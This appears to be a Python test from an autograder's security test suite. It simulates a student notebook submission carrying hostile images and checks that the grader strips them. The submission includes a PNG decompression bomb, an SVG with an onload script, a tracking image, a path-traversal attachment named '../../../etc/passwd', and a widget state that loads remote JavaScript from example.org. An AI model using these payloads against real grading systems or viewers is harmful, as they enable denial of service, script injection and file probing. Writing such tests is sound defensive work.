"""Put pictures into an answer: one that fills a browser's memory, one that tells who looks, SVG."""

import base64
import struct
import zlib

from tests.autograder.attacking import Attack
from tests.autograder.mini_course import MiniCourse


def bomb() -> str:
    head = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0)
    chunk = struct.pack(">I", 13) + b"IHDR" + head + struct.pack(">I", zlib.crc32(b"IHDR" + head))
    return base64.b64encode(b"\x89PNG\r\n\x1a\n" + chunk + b"\0" * 99).decode()


def hand_in(course: MiniCourse, student: str) -> None:
    svg = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='owned()'/>").decode()
    text = (f"![x](data:image/png;base64,{bomb()})\n\n![x](https://example.org/owned.png)\n\n"
            f"![x](data:image/svg+xml;base64,{svg})\n\n![x](attachment:../../../etc/passwd)")
    notebook = course.solved(answer=text)
    for cell in notebook["cells"]:
        cell["attachments"] = {"../../../etc/passwd": {"image/png": bomb()}}
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {
        "a": {"model_module": "https://example.org/owned.js", "model_name": "X", "state": {}}}}}
    course.hand_in(student, notebook)


ATTACK = Attack(
    here="only PNG and JPEG inside the page, of a bearable size; attachments and widgets are "
    "dropped",
    hand_in=hand_in, points=5.0,
)
